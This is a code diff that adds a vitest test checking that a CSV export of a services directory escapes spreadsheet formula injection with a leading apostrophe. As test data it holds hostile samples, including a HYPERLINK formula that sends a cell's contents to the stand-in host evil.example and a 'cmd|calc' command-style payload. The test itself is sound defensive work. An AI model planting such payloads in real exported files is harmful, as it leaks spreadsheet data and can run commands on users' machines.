@@ -2,6 +2,7 @@ import ICAL from 'ical.js';
 import { describe, expect, it } from 'vitest';
 import {
   CSV_HEADER,
+  csvField,
   SAMPLE_NOTE,
   servicesCsv,
   servicesJson,
@@ -169,6 +170,20 @@ describe('servicesCsv', () => {
   it('never invents a number: no phone and no national lines leaves telefono empty', () => {
     const rows = parseCsv(servicesCsv([withoutPhone], []).slice(1));
     expect(rows[1]![3]).toBe('');
+  });
+
+  it('writes a field that a spreadsheet would run as a formula as text, with a leading apostrophe', () => {
+    const hostile = { ...withPhone, name: '=HYPERLINK("https://evil.example/?"&A1,"Ver")', hours: '+1+1', address: '@SUM(1)', phone: '-2+3' };
+    const written = servicesCsv([hostile, { ...withPhone, name: '\tcmd|calc', hours: '\r=1' }], nationalLines);
+    const rows = parseCsv(written.slice(1));
+    expect(rows[1]?.slice(1, 5)).toEqual(["'=HYPERLINK(\"https://evil.example/?\"&A1,\"Ver\")", "'@SUM(1)", "'-2+3", "'+1+1"]);
+    expect(rows[2]?.[1]).toBe("'\tcmd|calc");
+    expect(rows[2]?.[4]).toBe("'\r=1");
+    // In the bytes: no field (first cell, or after a comma) starts with a formula character.
+    expect(written.slice(1)).not.toMatch(/(^|,|\r\n)"?[=+\-@\t]/);
+    // Plain text, numbers and dates are left as they are.
+    expect(csvField('084-241 234')).toBe('084-241 234');
+    expect(csvField('DEMUNA')).toBe('DEMUNA');
   });
 
   it('writes only the header for an empty directory', () => {
